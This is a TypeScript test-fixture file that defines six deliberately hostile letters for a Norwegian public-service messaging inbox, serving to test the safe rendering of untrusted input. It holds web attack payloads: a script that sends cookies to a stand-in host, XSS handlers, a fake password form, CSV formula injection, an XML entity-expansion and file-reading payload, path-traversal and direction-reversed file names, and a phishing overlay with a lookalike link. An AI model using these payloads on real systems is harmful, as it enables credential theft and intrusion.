import { csv } from '../files/csv.ts'
import type { LetterKind } from './kind.ts'

/**
 * Six letters that a careless reader is hurt by. The service lets all of it through (altinn3.md 2.7): every body, title and file name
 * is untrusted. They do no harm where they are read as text; nothing in them leaves this machine.
 */

const script: LetterKind = {
  id: 'hostile-script',
  resource: 'tindvik-vedtak',
  languages: ['nb'],
  weight: 0,
  write: (f) => ({
    title: 'Oppdatert skjema for registrering',
    summary: '<b>Viktig</b> melding fra kommunen',
    body: `Kjære ${f.name},

<script>document.title = 'overtatt'; fetch('https://sporing.example/kake?' + document.cookie)</script>
<img src="https://sporing.example/bilde.png" onerror="alert('overtatt')" width="1" height="1">

Skjemaet er oppdatert. [Åpne skjemaet](javascript:alert('overtatt')) eller <a href="javascript:alert(1)" onclick="alert(2)">les mer</a>.

<iframe src="https://sporing.example/ramme"></iframe>
<form action="https://sporing.example/passord"><input name="passord" type="password"><button>Logg inn på nytt</button></form>

Med vennlig hilsen  
Servicetorget`,
    reference: f.caseNumber(),
  }),
}

const turned: LetterKind = {
  id: 'hostile-turned-title',
  resource: 'tindvik-vedtak',
  languages: ['nb'],
  weight: 0,
  write: (f) => ({
    // U+202E turns the rest of the line around: shown raw, the title seems to end in "exe.pdf".
    title: `Vedtak \u202Efdp.exe\u202C\u200B klar til nedlasting`,
    summary: `Linje én\nLinje to\u2028Linje tre`,
    body: `Tittelen på dette brevet inneholder tegn som snur skriveretningen. Brevet er ellers helt vanlig.\n\nMed vennlig hilsen  \n${f.owner}`,
    reference: f.caseNumber(),
  }),
}

const program: LetterKind = {
  id: 'hostile-file-names',
  resource: 'tindvik-eiendom',
  languages: ['nb'],
  weight: 0,
  write: (f) => ({
    title: 'Faktura – se vedlegg',
    summary: null,
    body: `Fakturaen ligger ved.\n\nMed vennlig hilsen  \n${f.owner}`,
    reference: f.caseNumber(),
    attachments: [
      { fileName: 'faktura.pdf.exe.txt', content: () => Buffer.from('MZ dette er ren tekst og ikke et program\r\n') },
      { fileName: '..\\..\\Oppstart\\faktura.txt', displayName: '../../faktura', content: () => Buffer.from('Navnet peker ut av mappen.\n') },
      { fileName: 'CON.txt', content: () => Buffer.from('Navnet er opptatt i Windows.\n') },
      { fileName: 'faktura \u202Etxt.fdp.txt', content: () => Buffer.from('Navnet er snudd.\n') },
    ],
  }),
}

const longTitle: LetterKind = {
  id: 'hostile-long-title',
  resource: 'tindvik-vedtak',
  languages: ['nb'],
  weight: 0,
  write: (f) => ({
    title: `Høring av forslag til ${'forskriftsendringsforslagsbehandlingsrutinebeskrivelse '.repeat(6)}`.slice(0, 254) + '.',
    summary: 'x'.repeat(255),
    body: `${'Ordetutenmellomrom'.repeat(120)}\n\nMed vennlig hilsen  \n${f.owner}`,
    reference: f.caseNumber(),
  }),
}

const formulas: LetterKind = {
  id: 'hostile-formulas',
  resource: 'ssb-oppgaveplikt',
  languages: ['nb'],
  weight: 0,
  write: (f) => ({
    title: '=HYPERLINK("https://sporing.example";"Åpne tallene")',
    summary: '+47 00 00 00 00',
    body: `Tallene ligger ved.\n\nMed vennlig hilsen  \n${f.owner}`,
    reference: f.caseNumber(),
    attachments: [
      { fileName: 'tall.csv', content: () => csv([['Navn', 'Beløp'], ["=cmd|' /C calc'!A0", 1], ['@SUM(1+1)*cmd', 2], ['+1-1', 3]]) },
      { fileName: 'side.html', content: () => Buffer.from('<!DOCTYPE html><html><body onload="parent.postMessage(\'overtatt\', \'*\')"><script src="https://sporing.example/x.js"></script><p>Tall</p></body></html>\n') },
      {
        fileName: 'skjema.xml',
        // Entities that would grow to 10 000 words, and one that would read a file.
        content: () => Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Skjema [\n  <!ENTITY a "ord ord ord ord ord ord ord ord ord ord ">\n  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\n  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">\n  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">\n  <!ENTITY fil SYSTEM "file:///etc/hostname">\n]>\n<Skjema>&d;&fil;</Skjema>\n'),
      },
    ],
  }),
}

const imitation: LetterKind = {
  id: 'hostile-imitation',
  resource: 'tindvik-eiendom',
  languages: ['nb'],
  weight: 0,
  write: (f) => ({
    title: 'Bekreft kontonummeret ditt i dag',
    summary: null,
    // A display name that claims to be another sender.
    messageSender: 'Skatteetaten',
    body: `<style>body, .app { display: none }</style>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999">
<h1>Økten er utløpt</h1>
<p>Logg inn på nytt: <a href="https://altinn.example.invalid/innlogging">https://www.altinn.no</a></p>
</div>

Vanlig tekst under. Kontonummeret skal aldri bekreftes på e-post.`,
    reference: f.caseNumber(),
    replyOptions: [{ linkURL: 'https://xn--ltinn-zxa.example/svar?til=skatteetaten', linkText: 'https://www.skatteetaten.no/' }],
  }),
}

export const hostileLetters: readonly LetterKind[] = [script, turned, program, longTitle, formulas, imitation]
